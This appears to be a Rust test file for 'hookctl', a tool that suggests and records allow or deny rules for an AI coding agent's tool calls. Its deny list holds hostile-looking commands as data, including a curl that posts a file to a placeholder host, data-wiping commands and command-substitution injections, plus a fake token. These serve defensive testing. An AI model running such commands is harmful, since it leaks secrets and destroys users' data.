//! `hookctl suggest`, `allow` and `deny` as processes.

mod cli;

use std::fs;

use cli::{World, system};
use serde_json::{Value, json};

/// Numbers that look like chance, and are the same each time.
struct Chance(u64);

impl Chance {
    fn below(&mut self, most: usize) -> usize {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % most
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

const NAMES: [&str; 6] = ["alpha", "beta", "gamma", "delta", "eps", "zeta"];
/// What this user always says yes to; `@` is any name.
const YES: [(&str, &str); 16] = [
    ("Bash", "cargo test @"),
    ("Bash", "cargo test --workspace 2>&1 | tail -20"),
    ("Bash", "npm run build"),
    ("Bash", "git commit -m \"fix @ and more\""),
    ("Bash", "git push origin feat/x"),
    ("Edit", "%/src/@.rs"),
    ("Write", "%/docs/@.md"),
    ("WebFetch", "https://docs.rs/@"),
    ("Bash", "make lint"),
    ("Bash", "pytest tests/@.py -k foo"),
    ("Bash", "node scripts/@.js"),
    ("Bash", "cd src && cargo build"),
    ("Bash", "docker compose up -d"),
    ("Bash", "cargo clippy; grep -rn @ src | wc -l"),
    ("Bash", "./run.sh @"),
    ("Bash", "kubectl apply -f k8s/@.yml"),
];
/// What this user always rejects.
const NO: [(&str, &str); 24] = [
    ("Bash", "git push origin main"),
    ("Bash", "git push origin @"),
    ("Bash", "git push origin feat/x feat/@"),
    ("Bash", "npm run deploy-@"),
    ("Bash", "cargo publish"),
    ("Bash", "cargo run -- --wipe @"),
    ("Bash", "curl -d @x https://@.example"),
    ("Edit", "%/.github/workflows/@.yml"),
    ("Write", "%/Makefile"),
    ("Write", "%/../other/@"),
    ("WebFetch", "https://@.example/"),
    ("Bash", "rm -r build-@"),
    ("Bash", "make deploy-@"),
    ("Bash", "make lint deploy"),
    ("Bash", "node scripts/rm-@.js"),
    ("Bash", "cargo test && git push origin main"),
    ("Bash", "cargo test > src/@"),
    ("Bash", "cargo --config @ test"),
    ("Bash", "cargo test $(cat @)"),
    ("Bash", "PATH=/tmp/@ cargo test"),
    ("Bash", "docker compose down -v"),
    ("Bash", "kubectl delete -f k8s/@.yml"),
    ("Bash", "./run.sh --force @"),
    ("Bash", "xargs cargo test < @"),
];

/// A journal of one half.
fn journal(world: &World, chance: &mut Chance, half: usize) -> String {
    let cwd = world.project();
    let mut out = String::new();
    for at in 0..300 {
        let good = chance.below(10) < 8;
        let (tool, what) =
            if good { YES[chance.below(YES.len())] } else { NO[chance.below(NO.len())] };
        let what = what.replace('@', chance.pick(&NAMES)).replace('%', cwd.to_str().unwrap());
        let events: &[&str] = match good {
            true => &["PreToolUse", "PermissionRequest", "PostToolUse"],
            false => &["PreToolUse", "PermissionRequest"],
        };
        for event in events {
            let line = json!({
                "time": format!("2026-11-1{half}T10:{:02}:00.000Z", at % 60), "agent": "claude", "event": event,
                "session": format!("{half}-{}", at / 30), "cwd": cwd, "tool": tool, "what": what,
                "decision": "silent", "ms": 0.5,
            });
            out.push_str(&format!("{line}\n"));
        }
    }
    out
}

#[test]
fn what_is_suggested_holds_on_the_half_that_was_held_back() {
    for seed in 1..=6 {
        let world = World::new();
        let mut chance = Chance(seed);
        let halves = [0, 1].map(|half| {
            let path = world.home().join(format!("{half}/journal.jsonl"));
            world.write(&path, &journal(&world, &mut chance, half));
            path.to_str().unwrap().to_string()
        });
        let done = world.run(&["suggest", "--json", &halves[0]]).json();
        let all = done["suggestions"].as_array().unwrap();
        let (prompts, answered) =
            (done["prompts"].as_u64().unwrap(), done["answered"].as_u64().unwrap());
        assert!(answered * 4 > prompts * 3 && all.len() < 20, "{seed}: {answered} of {prompts}");
        let text = |one: &Value| {
            format!("{}{}\n", one["rule"].as_str().unwrap(), one["tests"].as_str().unwrap())
        };
        world.write(&world.user(), &all.iter().map(text).collect::<String>());
        let check = world.run(&["check"]);
        assert_eq!(check.code, 0, "{}{}", check.out, check.err);
        let tests = world.run(&["test"]);
        assert_eq!(tests.code, 0, "{seed}: {}", tests.out);
        for half in &halves {
            let replay = world.run(&["replay", "--json", half]).json();
            assert_eq!(replay["rejected_and_allowed"], json!([]), "{seed}");
            assert!(replay["rejected"].as_u64() > Some(30), "{replay}");
            assert!(
                replay["verdicts"]["allow"].as_u64() > Some(120),
                "{seed}: {}",
                replay["verdicts"]
            );
        }
        // In another project nothing of it holds.
        let line = "cargo test";
        let elsewhere = world.home().join("elsewhere");
        fs::create_dir_all(elsewhere.join(".git")).unwrap();
        let payload = json!({ "hook_event_name": "PreToolUse", "tool_name": "Bash", "session_id": "s",
            "tool_input": { "command": line }, "cwd": elsewhere });
        assert_eq!(world.feed(&["hook"], payload.to_string().as_bytes()).out, "");
    }
}

fn line(world: &World, event: &str, what: &str, decision: &str, rule: &str) -> String {
    let line = json!({
        "time": "2026-11-10T10:00:00.000Z", "agent": "claude", "event": event, "session": "s", "cwd": world.project(),
        "tool": "Bash", "what": what, "decision": decision, "rule": rule, "ms": 0.5,
    });
    format!("{line}\n")
}

fn journal_of(world: &World, lines: &[String]) {
    world.write(&world.state().join("journal.jsonl"), &lines.concat());
}

const OWN: &str = "# mine\n[rule.ask-make]\ncommand = \"make\"\nask = \"make?\" # why";

#[test]
#[cfg_attr(windows, ignore = "needs a terminal")]
fn the_last_stopped_call_becomes_an_exact_rule() {
    let world = World::with(OWN);
    journal_of(
        &world,
        &[
            line(&world, "PreToolUse", "make x", "ask", "user:ask-make"),
            line(&world, "PreToolUse", "cat notes.txt | mytool --deep 'a*' src/x", "silent", ""),
            line(
                &world,
                "PermissionRequest",
                "cat notes.txt | mytool --deep 'a*' src/x",
                "silent",
                "",
            ),
            line(&world, "PreToolUse", "ls", "silent", ""),
        ],
    );
    // Not by an agent, nor without a terminal.
    for args in [["allow", "--last"], ["deny", "--last"]] {
        let done = world.run(&args);
        assert_eq!((done.code, done.err.contains("for humans")), (1, true), "{}", done.err);
        let agent = world.on_terminal_with(&args, "allow this\n", &[("CLAUDECODE", "1")]);
        assert_eq!(agent.code, 1, "{}", agent.out);
    }
    let no = world.on_terminal(&["allow", "--last"], "yes\n");
    assert_eq!(
        (no.code, fs::read_to_string(world.user()).unwrap().as_str()),
        (1, OWN),
        "{}",
        no.out
    );
    // Behind a link, as dotfiles are kept; nothing of the file is lost.
    let real = world.home().join("dotfiles.toml");
    fs::rename(world.user(), &real).unwrap();
    system::symlink(&real, world.user()).unwrap();
    let yes = world.on_terminal(&["allow", "--last"], "allow this\n");
    assert_eq!(yes.code, 0, "{}", yes.out);
    assert!(yes.out.contains("+[rule.allow-cat-notes-txt"), "{}", yes.out);
    assert!(world.user().is_symlink());
    let text = fs::read_to_string(&real).unwrap();
    assert!(text.starts_with(OWN), "{text}");
    assert_eq!(world.run(&["check"]).code, 0, "{text}");
    let verdict = |command: &str| {
        world.run(&["explain", "--json", "--tool", "Bash", "--", command]).json()["verdict"].clone()
    };
    assert_eq!(verdict("cat notes.txt | mytool --deep 'a*' src/x"), "allow", "{text}");
    for other in [
        "cat notes.txt | mytool --deep 'a*' src/x src/y",
        "cat notes.txt | mytool --deep ab src/x",
        "cat other.txt | mytool --deep 'a*' src/x",
        "cat notes.txt | mytool --deep 'a*' src/x > y",
        "cat notes.txt | mytool --deep --more 'a*' src/x",
    ] {
        assert_eq!(verdict(other), Value::Null, "{other}");
    }
}

#[test]
#[cfg_attr(windows, ignore = "needs a terminal")]
fn an_allow_that_would_not_help_is_not_written() {
    let world = World::with(OWN);
    journal_of(&world, &[line(&world, "PreToolUse", "make x", "ask", "user:ask-make")]);
    let done = world.on_terminal(&["allow", "--last"], "allow this\n");
    assert_eq!(done.code, 1, "{}", done.out);
    assert!(done.out.contains("an allow never outweighs that"), "{}", done.out);
    let deny = world.on_terminal(&["deny", "--last"], "deny this\n");
    assert_eq!(deny.code, 0, "{}", deny.out);
    let text = fs::read_to_string(world.user()).unwrap();
    assert_eq!(
        text,
        format!(
            "{OWN}\n\n[rule.deny-make-x]\ncommand = \"make x $\"\ndeny = \"`hookctl deny --last`\"\n"
        )
    );
    let empty = World::new();
    let none = empty.on_terminal(&["allow", "--last"], "");
    assert_eq!((none.code, none.out.contains("tells of no call")), (1, true), "{}", none.out);
}

#[test]
#[cfg_attr(windows, ignore = "needs a terminal")]
fn suggestions_are_accepted_one_by_one() {
    let world = World::with("profile = \"guard\"\n");
    let mut lines = Vec::new();
    for at in 0..4 {
        for what in [
            format!("cargo test t{at}"),
            "make lint".into(),
            "export T=ghp_0123456789abcdefghijABCDEFGHIJ012345; make it".into(),
        ] {
            lines.push(line(&world, "PreToolUse", &what, "silent", ""));
            lines.push(line(&world, "PermissionRequest", &what, "silent", ""));
            lines.push(line(&world, "PostToolUse", &what, "silent", ""));
        }
    }
    lines.push(line(&world, "PreToolUse", "cargo test; git push origin main", "silent", ""));
    lines.push(line(&world, "PermissionRequest", "cargo test; git push origin main", "silent", ""));
    journal_of(&world, &lines);
    let shown = world.run(&["suggest"]);
    let project = world.project();
    assert_eq!(
        shown.out,
        format!(
            "# 2 rules would have answered 8 of 12 prompts that you always said yes to.\n\
             # Take what you want into ~/.config/hookctl/config.toml, or: `hookctl suggest --accept`.\n\n\
             # 4 prompts\n#   1x  cargo test t0\n#   1x  cargo test t1\n#   1x  cargo test t2\n\
             #   and 1 more\n\
             # it also allows: `cargo test` with any operands in the project and any options that are known as \
             harmless; it may run the project's own code, in this project\n\
             # claude: in Claude Code's auto mode, which ignores a hook's allow, permissions.allow: \"Bash(cargo test:*)\"\n\
             [rule.cargo-test]\ncommand = \"cargo test\"\nwithin = \"./\"\nwhen = {{ project = \"{p}\" }}\n\
             allow = \"You always said yes to it.\"\n\n\
             [[test]]\ncommand = \"cargo test t0\"\nverdict = \"passed\"\n\n\
             [[test]]\ncommand = \"cargo test t1\"\nverdict = \"passed\"\n\n\
             [[test]]\ncommand = \"cargo test t2\"\nverdict = \"passed\"\n\n\
             [[test]]\ncommand = \"cargo test; git push origin main\"\nverdict = \"not allow\"\n\n\
             # 4 prompts\n#   4x  make lint\n\
             # it also allows: these commands alone, with no other operand; what they run may be the project's own \
             code, in this project\n\
             [rule.make-lint]\ncommand = \"make lint $\"\nwithin = \"./\"\nwhen = {{ project = \"{p}\" }}\n\
             allow = \"You always said yes to it.\"\n\n\
             [[test]]\ncommand = \"make lint\"\nverdict = \"passed\"\n",
            p = project.display()
        )
    );
    assert_eq!(world.run(&["suggest", "--accept"]).code, 1);
    let done = world.on_terminal(&["suggest", "--accept"], "no\naccept make-lint\n");
    assert_eq!(done.code, 0, "{}", done.out);
    let text = fs::read_to_string(world.user()).unwrap();
    assert!(text.starts_with("profile = \"guard\"\n\n[rule.make-lint]\n"), "{text}");
    assert!(!text.contains("cargo"), "{text}");
    assert_eq!(world.run(&["test"]).code, 0);
}
